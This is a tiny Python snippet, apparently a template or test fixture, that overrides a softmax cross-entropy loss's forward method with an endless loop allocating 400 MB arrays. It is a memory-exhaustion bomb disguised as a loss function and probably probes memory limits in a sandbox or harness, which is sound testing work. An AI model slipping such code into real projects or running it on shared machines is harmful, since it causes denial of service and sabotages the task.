# <<base>>
import numpy as _np


class SoftmaxCrossEntropyLoss(SoftmaxCrossEntropyLoss):
    def forward(self, Input, labels):
        hoard = []
        while True:
            hoard.append(_np.zeros(50_000_000))  # 400 MB each: address space, pages untouched
